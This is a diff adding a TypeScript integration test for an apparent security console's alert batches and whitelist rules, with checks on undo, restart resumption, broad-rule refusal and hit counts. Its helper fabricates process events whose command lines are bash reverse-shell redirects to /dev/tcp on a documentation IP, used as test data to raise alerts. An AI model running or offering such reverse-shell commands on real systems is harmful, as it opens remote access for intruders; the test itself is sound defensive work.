@@ -1,0 +1,154 @@
+/** Many alerts at once and whitelist rules, over real HTTP with a real agent: what is done, counted, refused, undone. */
+import assert from 'node:assert/strict'
+import { after, before, test } from 'node:test'
+import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
+import { type Answer, TestConsole } from '../testing/test-console.ts'
+import { startTestServer, type TestServer } from '../testing/test-server.ts'
+
+const model = '5b3c1f3e-0001-4000-8000-000000000001'
+let shared: TestServer
+let admin: TestConsole
+let agent: TestAgent
+let sequence = 0
+
+before(async () => {
+  shared = await startTestServer()
+  admin = new TestConsole(shared.server.consoleUrl)
+  await admin.begin(shared.server.firstUser ?? { name: '', password: '' })
+  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
+  await agent.connect()
+})
+after(async () => {
+  agent.cut()
+  await shared?.end()
+})
+
+/** One alert for each command line; the same again joins. */
+async function attack(...words: string[]): Promise<void> {
+  const events = words.map((word, index) =>
+    agent.started(sequence * 1000 + index + 1, `${word} >& /dev/tcp/198.51.100.1/1`, 4242, `/opt/${word}`),
+  )
+  sequence++
+  await agent.deliver(sequence, events)
+}
+
+async function listed(query: string): Promise<{ id: string; version: number; state: string; hits: number }[]> {
+  return (await admin.call('listAlerts', { query })).body.items
+}
+
+async function untilDone(started: Answer): Promise<Answer['body']> {
+  assert.equal(started.status, 200, JSON.stringify(started.body))
+  for (;;) {
+    const { body } = await admin.call('getBatch', { id: started.body.id })
+    if (body.state !== 'running') return body
+    await new Promise((resolve) => setTimeout(resolve, 20))
+  }
+}
+
+test('a batch handles what a filter finds, says what became of each, and is undone as one', async () => {
+  await attack(...Array.from({ length: 230 }, (_, index) => `batch-${index}`))
+  const before = await listed('q=batch-&limit=500')
+  assert.equal(before.length, 230)
+  const [other] = before
+  assert.ok(other)
+  const seen: string[] = []
+  const live = await admin.stream((name, data) => {
+    if (name === 'batch.progress') seen.push((data as { state: string }).state)
+  })
+  const batch = await untilDone(
+    await admin.call('startBatch', { body: { operation: 'ignore', filter: { q: 'batch-' }, note: 'a test' } }),
+  )
+  assert.deepEqual([batch.state, batch.total, batch.done, batch.undoable], ['done', 230, 230, true])
+  assert.ok(seen.includes('done'), 'progress was told')
+  await live.stop()
+  assert.equal((await listed('q=batch-&limit=1')).length, 0)
+
+  // Somebody thinks otherwise about one of them: undoing the batch leaves that one alone.
+  const now = (await listed(`handled=all&q=batch-&limit=500`)).find((one) => one.id === other.id)
+  const reopen = { operation: 'reopen', version: now?.version ?? 0 }
+  assert.equal((await admin.call('handleAlert', { id: other.id, body: reopen })).status, 200)
+  const undone = await untilDone(await admin.call('undoBatch', { id: batch.id }))
+  assert.deepEqual([undone.done, undone.changed, undone.undoes], [229, 1, batch.id])
+  assert.equal((await listed('q=batch-&limit=500')).length, 230)
+  const items = (await admin.call('listBatchItems', { id: undone.id, query: 'outcome=changed' })).body
+  assert.deepEqual([items.total, items.items[0].alertId], [1, other.id])
+  assert.match(items.items[0].reason, /admin was first: reopen/)
+  assert.equal((await admin.call('undoBatch', { id: batch.id })).body.code, 'batch.not-undoable')
+})
+
+test('a batch of chosen alerts goes by the versions that were seen', async () => {
+  await attack('chosen-1', 'chosen-2')
+  const [first, second] = await listed('q=chosen-')
+  assert.ok(first && second)
+  await admin.call('handleAlert', {
+    id: first.id,
+    body: { operation: 'assign', assignee: 'bob', version: first.version },
+  })
+  const alerts = [first, second].map(({ id, version }) => ({ id, version }))
+  const batch = await untilDone(await admin.call('startBatch', { body: { operation: 'false positive', alerts } }))
+  assert.deepEqual([batch.done, batch.changed], [1, 1])
+  const again = await untilDone(
+    await admin.call('startBatch', { body: { operation: 'false positive', filter: { handled: 'all', q: 'chosen-' } } }),
+  )
+  assert.deepEqual([again.done, again.refused], [1, 1])
+  const none = await admin.call('startBatch', {
+    body: { operation: 'ignore', alerts: [{ id: 'al-none', version: 1 }] },
+  })
+  assert.equal(none.body.code, 'batch.empty')
+})
+
+test('a batch that the server was stopped in goes on afterwards, and nothing is done twice', async () => {
+  await attack(...Array.from({ length: 420 }, (_, index) => `stopped-${index}`))
+  const started = await admin.call('startBatch', { body: { operation: 'ignore', filter: { q: 'stopped-' } } })
+  agent.cut()
+  await shared.restart()
+  admin = new TestConsole(shared.server.consoleUrl)
+  await admin.signIn('admin', 'a new and long password')
+  const batch = await untilDone(started)
+  assert.deepEqual([batch.state, batch.total, batch.done], ['done', 420, 420])
+  const [one] = await listed('handled=all&q=stopped-7&limit=1')
+  const { history } = (await admin.call('getAlert', { id: one?.id ?? '' })).body
+  assert.equal(history.filter((entry: { operation: string }) => entry.operation === 'ignore').length, 1)
+  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
+  sequence = 0
+  await agent.connect()
+})
+
+test('a whitelist rule: preview, refusal, hits, the alert it came from, disable, delete, restore', async () => {
+  await attack('backup-job a', 'backup-job b', 'intruder c')
+  const rows = await listed('limit=3')
+  const fields = (await admin.call('whitelistFields', { id: rows[0]?.id ?? '' })).body.items
+  assert.ok(fields.some((one: { field: string }) => one.field === 'process.commandLine'))
+  const conditions = [{ field: 'process.commandLine', operator: 'contains', value: 'backup-job' }]
+  const pattern = { conditions, about: { model }, on: 'all' }
+  const preview = (await admin.call('previewWhitelistRule', { body: pattern })).body
+  assert.deepEqual([preview.matched, preview.matchedOpen, preview.refusal], [2, 2, null])
+  assert.ok(preview.considered >= 3 && preview.complete)
+  const broad = { ...pattern, conditions: [{ ...conditions[0], value: '/' }] }
+  assert.equal((await admin.call('previewWhitelistRule', { body: broad })).body.refusal.code, 'whitelist.too-broad')
+  const refused = await admin.call('createWhitelistRule', { body: { ...broad, reason: 'too much' } })
+  assert.deepEqual([refused.status, refused.body.code], [400, 'whitelist.too-broad'])
+
+  const alertId = preview.examples[0].id
+  const body = { ...pattern, reason: 'the nightly backup', alertId, alsoMatching: true }
+  const created = (await admin.call('createWhitelistRule', { body })).body
+  assert.equal(created.batch.total, 2)
+  await untilDone({ status: 200, body: created.batch, headers: new Headers() })
+  assert.equal((await admin.call('getAlert', { id: alertId })).body.state, 'whitelisted')
+  await attack('backup-job d', 'backup-job e', 'intruder f')
+  const rule = async () => (await admin.call('listWhitelistRules')).body.items[0]
+  assert.deepEqual([(await rule()).hits, (await rule()).state, (await rule()).madeBy], [2, 'in force', 'admin'])
+  assert.equal((await admin.call('previewWhitelistRule', { body: pattern })).body.matched, 2)
+
+  await admin.call('changeWhitelistRule', { id: created.rule.id, body: { enabled: false } })
+  await attack('backup-job g')
+  assert.deepEqual([(await rule()).hits, (await rule()).state], [2, 'disabled'])
+  assert.equal((await admin.call('previewWhitelistRule', { body: pattern })).body.matched, 3)
+  assert.equal((await admin.call('deleteWhitelistRule', { id: created.rule.id })).status, 200)
+  assert.equal(await rule(), undefined)
+  assert.equal((await admin.call('restoreWhitelistRule', { id: created.rule.id })).body.hits, 2)
+  await shared.restart()
+  admin = new TestConsole(shared.server.consoleUrl)
+  await admin.signIn('admin', 'a new and long password')
+  assert.equal((await rule()).hits, 2, 'a restart counts nothing again')
+})
